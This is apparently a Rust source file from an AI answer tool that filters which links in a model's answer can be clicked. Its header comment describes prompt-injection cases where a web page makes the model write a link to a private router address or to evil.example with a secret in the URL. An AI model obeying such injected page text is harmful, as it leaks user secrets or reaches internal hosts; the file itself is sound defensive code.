//! Decides which links in an answer can be clicked, and how much of their addresses is shown
//! (DETAILS §12).
//!
//! Example: a page makes the model write "see [the status](http://192.168.0.1/reboot)". A
//! link to a private host can be clicked only if the run's page is on that host. If the page is on
//! another host, only the link's text is shown. Citations are not affected, because they link to
//! pages that were read.
//!
//! Another page makes the model write `[tides](https://evil.example/?q=…)` with a secret in the
//! address. The user sees the whole address, unless Gloss itself knows it (`known`).

use gloss_host::is_private;
use gloss_markdown::{Block, LinkOrigin, plain_host, with_links};

/// Returns the blocks of an answer about `page`, with only the links that may be clicked.
pub(crate) fn pressable(
    blocks: Vec<Block>,
    page: &str,
    known: &dyn Fn(&str) -> bool,
) -> Vec<Block> {
    let origin = |url: &str| {
        if known(url) {
            LinkOrigin::Known
        } else {
            LinkOrigin::Model
        }
    };
    with_links(blocks, &|url| {
        may_be_pressed(url, page).then(|| origin(url))
    })
}

fn may_be_pressed(url: &str, page: &str) -> bool {
    let is_letter = url
        .split_once(':')
        .is_some_and(|(scheme, _)| scheme.eq_ignore_ascii_case("mailto"));
    match plain_host(url) {
        Some(host) => !is_private(&host) || plain_host(page) == Some(host),
        None => is_letter,
    }
}
